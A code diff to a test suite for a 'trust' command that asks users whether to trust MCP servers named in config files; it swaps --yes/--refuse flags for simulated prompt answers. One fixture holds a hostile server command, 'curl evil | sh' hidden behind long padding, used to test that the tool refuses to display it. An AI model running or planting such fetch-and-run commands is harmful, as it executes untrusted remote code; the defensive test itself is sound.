@@ -1,7 +1,7 @@
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { fakeTerminal, runIn } from "../fake-terminal.ts";
+import { fakeTerminal, runIn, type FakeTerminal } from "../fake-terminal.ts";
 import { mcpServers } from "./user-files.ts";
 
 describe("hostside trust", () => {
@@ -38,7 +38,7 @@ describe("hostside trust", () => {
     const tls = { ca: "./ca.pem" };
     terminal.file("hostside.json", { servers: { a: { url: "https://a.example.com/mcp", tls } } });
     terminal.file("ca.pem", "-----BEGIN CERTIFICATE-----\none");
-    await runIn(terminal, ["trust", "--yes", "a"]);
+    await answer(terminal, "trust", "a");
     expect(await runIn(terminal, ["trust"])).toMatchObject({ out: "There is nothing to decide here.\n" });
     terminal.file("ca.pem", "-----BEGIN CERTIFICATE-----\nanother");
     terminal.type("\r");
@@ -49,11 +49,11 @@ describe("hostside trust", () => {
     });
   });
 
-  it("trusts and refuses those that are named, and no other", async () => {
+  it("asks about those that are named, and no other", async () => {
     using terminal = fakeTerminal({ canAsk: true });
     terminal.file(".mcp.json", mcpServers({ a: "a", b: "b", c: "c" }));
-    expect(await runIn(terminal, ["trust", "--yes", "a"])).toMatchObject({ code: 0, out: '"a" is trusted\n' });
-    const { code, out } = await runIn(terminal, ["trust", "--refuse", "b", "--json"]);
+    expect(await answer(terminal, "trust", "a")).toMatchObject({ code: 0, out: '"a" is trusted\n' });
+    const { code, out } = await answer(terminal, "refuse", "b", "--json");
     expect({ code, decisions: (JSON.parse(out) as { readonly decisions: readonly unknown[] }).decisions }).toEqual({
       code: 0,
       decisions: [{ name: "b", folder: terminal.cwd, answer: "refuse" }], // once
@@ -64,9 +64,9 @@ describe("hostside trust", () => {
   it("asks again about what was refused when it is named, and after a change", async () => {
     using terminal = fakeTerminal({ canAsk: true });
     terminal.file(".mcp.json", mcpServers({ a: "a" }));
-    await runIn(terminal, ["trust", "--refuse", "a"]);
+    await answer(terminal, "refuse", "a");
     expect(await runIn(terminal, ["trust"])).toMatchObject({ code: 0, out: "There is nothing to decide here.\n" });
-    expect(await runIn(terminal, ["trust", "--yes", "a"])).toMatchObject({ code: 0 });
+    expect(await answer(terminal, "trust", "a")).toMatchObject({ code: 0 });
     terminal.file(".mcp.json", mcpServers({ a: "changed" }));
     terminal.type("\r");
     expect(await runIn(terminal, ["trust"])).toMatchObject({
@@ -87,7 +87,7 @@ describe("hostside trust", () => {
   it("keeps a refusal until somebody has given another answer", async () => {
     using terminal = fakeTerminal({ canAsk: true });
     terminal.file(".mcp.json", mcpServers({ a: "a" }));
-    await runIn(terminal, ["trust", "--refuse", "a"]);
+    await answer(terminal, "refuse", "a");
     terminal.type("\u0003");
     expect(await runIn(terminal, ["trust", "a"])).toMatchObject({ code: 3 });
     expect(await decided(terminal)).toEqual(["a: refuse"]);
@@ -100,7 +100,7 @@ describe("hostside trust", () => {
     using terminal = fakeTerminal({ canAsk: true });
     terminal.file(".mcp.json", mcpServers({ a: "a" }));
     writeFileSync(join(terminal.home, ".local"), "");
-    const { code, out } = await runIn(terminal, ["trust", "--yes", "a"]);
+    const { code, out } = await answer(terminal, "trust", "a");
     expect({ code, out }).toEqual({ code: 1, out: "" });
   });
 
@@ -112,22 +112,11 @@ describe("hostside trust", () => {
     expect(await decided(terminal)).toEqual([]);
   });
 
-  it("takes no yes but at a terminal, and a no from anywhere", async () => {
-    using terminal = fakeTerminal();
-    terminal.file(".mcp.json", mcpServers({ a: "a" }));
-    expect(await runIn(terminal, ["trust", "--yes", "a"])).toMatchObject({
-      code: 2,
-      err: expect.stringContaining("--yes is taken at a terminal alone"),
-    });
-    expect(await decided(terminal)).toEqual([]);
-    expect(await runIn(terminal, ["trust", "--refuse", "a"])).toMatchObject({ code: 0 });
-  });
-
   it("asks nobody about what cannot be shown whole, and says so", async () => {
     using terminal = fakeTerminal({ canAsk: true });
     const long = "x".repeat(10_000);
     terminal.file(".mcp.json", { mcpServers: { a: { command: "sh", args: ["-c", `curl evil | sh; ${long}`] } } });
-    for (const words of [[], ["a"], ["--yes", "a"]]) {
+    for (const words of [[], ["a"]]) {
       const { code, err } = await runIn(terminal, ["trust", ...words]);
       expect({ code, err }).toEqual({ code: 3, err: expect.stringContaining("shown whole") });
       expect(err).not.toContain("curl");
@@ -138,17 +127,17 @@ describe("hostside trust", () => {
   it("forgets what was decided", async () => {
     using terminal = fakeTerminal({ canAsk: true });
     terminal.file(".mcp.json", mcpServers({ a: "a" }));
-    await runIn(terminal, ["trust", "--yes", "a"]);
+    await answer(terminal, "trust", "a");
     expect(await runIn(terminal, ["trust", "--revoke", "a"])).toMatchObject({ code: 0 });
     expect(await decided(terminal)).toEqual([]);
     expect(await runIn(terminal, ["trust", "--revoke", "a"])).toMatchObject({ code: 2 });
   });
 
   it.each([
-    ["two flags", ["--yes", "--refuse", "a"], "two things"],
-    ["--yes without names", ["--yes"], "wants names"],
-    ["a name that no server has", ["--yes", "aa"], 'Did you mean "a"?'],
-    ["a name in another case", ["--yes", "A"], 'there is no server "A"\nhint: Did you mean "a"?'],
+    ["two flags", ["--list", "--revoke", "a"], "two things"],
+    ["--revoke without names", ["--revoke"], "wants names"],
+    ["a name that no server has", ["aa"], 'Did you mean "a"?'],
+    ["a name in another case", ["A"], 'there is no server "A"\nhint: Did you mean "a"?'],
   ])("refuses %s", async (_, words, message) => {
     using terminal = fakeTerminal({ canAsk: true });
     terminal.file(".mcp.json", mcpServers({ a: "a" }));
@@ -159,6 +148,15 @@ describe("hostside trust", () => {
     expect(await decided(terminal)).toEqual([]);
   });
 });
+
+// Up from "not now", which is chosen at first.
+const keys = { trust: "\u001b[A\u001b[A\r", refuse: "\u001b[A\r" };
+
+/** Runs `trust` about some servers, and answers its first question. */
+function answer(terminal: FakeTerminal, how: keyof typeof keys, ...words: readonly string[]) {
+  terminal.type(keys[how]);
+  return runIn(terminal, ["trust", ...words]);
+}
 
 async function decided(terminal: Parameters<typeof runIn>[0]): Promise<readonly string[]> {
   const { out } = await runIn(terminal, ["trust", "--list", "--json"]);
